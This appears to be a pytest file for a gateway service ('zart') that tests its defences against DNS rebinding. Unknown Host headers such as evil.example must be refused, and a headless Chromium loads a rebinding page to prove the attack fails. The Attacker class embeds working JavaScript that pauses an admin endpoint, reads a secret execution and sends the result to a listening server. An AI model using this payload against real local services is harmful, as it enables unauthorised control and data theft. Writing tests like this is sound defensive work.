"""A page of another site whose name points here (DNS rebinding) reads nothing and does nothing."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http import HTTPStatus
from pathlib import Path

import pytest
from gateway.sending import Http, gateway_to
from google.rpc import code_pb2
from ports import free_port
from rig import specs
from waiting import block_until

import zart
from zart.gateway.hosts import OnlyKnownHosts
from zart.gateway.settings import Settings
from zart.metrics.listener import serving_metrics
from zart.metrics.registry import registry_of
from zart.testing.fixtures import database_url, execute
from zart.testing.server import ServerUnderTest, serving

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.fixture(scope="module")
def shared_http(zart_postgres: str) -> Iterator[Http]:
    """A gateway on loopback that these tests share, which change nothing."""
    url, other = (database_url(zart_postgres, name) for name in ("rebound", "zart"))
    execute(other, "CREATE DATABASE rebound TEMPLATE template STRATEGY wal_log")
    with serving(url) as server, gateway_to(server.address) as sender:
        yield sender
    execute(other, "DROP DATABASE rebound WITH (FORCE)")


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/admin/v1/pause", {"everything": True}),
        ("GET", "/api/v1/executions/x", None),
        ("GET", "/api/v1/executions/x/watch", None),
        ("GET", "/openapi.json", None),
        ("GET", "/readyz", None),
        ("GET", "/nothing", None),
    ],
)
@pytest.mark.parametrize(
    "host",
    ["evil.example:8080", "evil.example", "127.0.0.1.evil.example", "localhost.evil.example",
     "169.254.0.1:8080", "[2001:db8::1]:8080", "xlocalhost", "::1.evil.example", ""],
)  # fmt: skip
def test_on_loopback_other_hosts_are_refused(
    shared_http: Http, method: str, path: str, body: object, host: str
) -> None:
    headers = {"Host": host, "Origin": f"http://{host}", "Content-Type": "application/json"}
    text = None if body is None else json.dumps(body)
    answer = shared_http.send(method, path, text, headers)

    assert (answer.status, answer.json["code"]) == (403, code_pb2.PERMISSION_DENIED)
    assert "ZART_GATEWAY_HOSTS" in answer.json["message"]
    assert not shared_http.get("/admin/v1/pause").json


@pytest.mark.parametrize(
    "host", ["localhost:1", "LOCALHOST", "localhost.", "127.0.0.1:1", "127.1.2.3", "[::1]:1",
             "zart.localhost:1"],
)  # fmt: skip
def test_names_of_loopback_are_served_from_pages_of_their_own_only(
    shared_http: Http, host: str
) -> None:
    own = shared_http.get("/api/v1/executions", Host=host, Origin=f"http://{host}")
    other = shared_http.get("/api/v1/executions", Host=host, Origin="http://evil.example:8080")

    assert (own.status, other.status) == (200, 403)


def test_hosts_can_be_named(zart_server: ServerUnderTest) -> None:
    with gateway_to(zart_server.address, hosts=["Zart.Example"]) as http_:
        found = [
            http_.get("/readyz", Host=host).status
            for host in ("zart.example", "zart.example:8443", "localhost", "evil.example")
        ]
        assert found == [200, 200, 200, 403]
        assert http_.get("/healthz", Host="a-load-balancer's").status == 200


@pytest.mark.parametrize(
    ("settings", "served", "refused"),
    [
        # Beyond loopback an address is nobody's name, and a certificate has the right ones.
        ({}, ["192.0.2.1:8080", "[2001:db8::1]", "localhost"], ["evil.example"]),
        ({"hosts": ["a.example"]}, ["a.example", "192.0.2.1"], ["b.example"]),
        ({"hosts": ["*"]}, ["b.example"], []),
        ({"tls_cert": Path("c"), "tls_key": Path("k")}, ["b.example"], []),
        ({"tls_cert": Path("c"), "tls_key": Path("k"), "hosts": ["a.example"]},
         ["a.example", "192.0.2.1"], ["b.example"]),
        ({"listen": "zart.example:8080"}, ["zart.example:9"], ["evil.example"]),
    ],
)  # fmt: skip
async def test_beyond_loopback(
    settings: dict[str, object], served: list[str], refused: list[str]
) -> None:
    chosen = Settings(**{"listen": "0.0.0.0:8080", "insecure": True, **settings})  # type: ignore[arg-type]
    known = OnlyKnownHosts(lambda *_: None, chosen)  # type: ignore[arg-type]

    for host in served + refused:
        sent: list[int] = []

        async def app(*_: object, sent: list[int] = sent) -> None:
            sent.append(HTTPStatus.OK)

        async def send(message: object, sent: list[int] = sent) -> None:
            sent.append(message.get("status", 0))  # type: ignore[attr-defined]

        known._app = app
        scope = {
            "type": "http",
            "method": "GET",
            "path": "/",
            "headers": [(b"host", host.encode())],
        }
        await known(scope, None, send)  # type: ignore[arg-type]
        assert sent[0] == (HTTPStatus.OK if host in served else HTTPStatus.FORBIDDEN), host


async def test_metrics_are_for_this_machine_too() -> None:
    async with serving_metrics("127.0.0.1:0", registry_of("server", ())) as address:
        assert address is not None
        http_ = Http(address)
        assert "zart_build_info" in http_.get("/metrics", Host="localhost:9").text
        refused = http_.get("/metrics", Host="evil.example")
        assert (refused.status, refused.text) == (403, "call it by localhost\n")


class Attacker(http.server.BaseHTTPRequestHandler):
    """Serves a page of its own, and later hears from it what it found."""

    heard: list[str]
    PAGE = b"""<script>
    const tell = text => fetch("http://127.0.0.1:%(port)d/heard?" + encodeURIComponent(text),
                               {mode: "no-cors"});
    async function attack() {
      try {
        const answer = await fetch("/admin/v1/pause", {
          method: "POST", headers: {"Content-Type": "application/json"},
          body: JSON.stringify({everything: true, triggeredBy: "evil"})});
        const read = await fetch("/api/v1/executions/secret");
        if (answer.headers.get("x-attacker")) return setTimeout(attack, 50);
        tell("paused " + answer.status + " read " + read.status + " " + await read.text());
      } catch (error) { setTimeout(attack, 50); }  // nobody listens: the name is about to move
    }
    tell("loaded").then(attack);
    </script>"""

    def do_GET(self) -> None:
        if self.path.startswith("/heard?"):
            self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("X-Attacker", "yes")
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(self.PAGE % {b"port": self.heard_at})

    do_POST = do_GET  # noqa: N815 - http.server's name

    heard_at = 0

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextlib.contextmanager
def attacker(port: int, heard: list[str], heard_at: int) -> Iterator[None]:
    handler = type("Handler", (Attacker,), {"heard": heard, "heard_at": heard_at})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium is installed")
def test_a_browser_whose_page_is_rebound_is_refused(
    zart_server: ServerUnderTest, tmp_path: Path
) -> None:
    with zart.connect_sync(zart_server.address) as client:
        client.start("t", {"card": "4111"}, execution_id="secret", steps=specs({"a": ()}))
    port, heard_at, heard = free_port(), free_port(), []  # type: ignore[var-annotated]
    with attacker(heard_at, heard, heard_at), contextlib.ExitStack() as stack:
        with attacker(port, heard, heard_at):
            browser = subprocess.Popen(
                [str(CHROMIUM), "--headless=new", "--no-sandbox", "--disable-gpu",
                 "--disable-dev-shm-usage", f"--user-data-dir={tmp_path}",
                 "--host-resolver-rules=MAP evil.example 127.0.0.1", "--remote-debugging-port=0",
                 f"http://evil.example:{port}/"],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                env={**os.environ, "HOME": str(tmp_path)},
            )  # fmt: skip
            stack.callback(browser.wait)
            stack.callback(browser.terminate)
            block_until(lambda: heard)
        http_ = stack.enter_context(gateway_to(zart_server.address, listen=f"127.0.0.1:{port}"))
        block_until(lambda: len(heard) > 1)
        rules = http_.get("/admin/v1/pause").json

    assert rules == {}
    assert "paused%20403%20read%20403" in heard[1]
    assert "4111" not in heard[1]
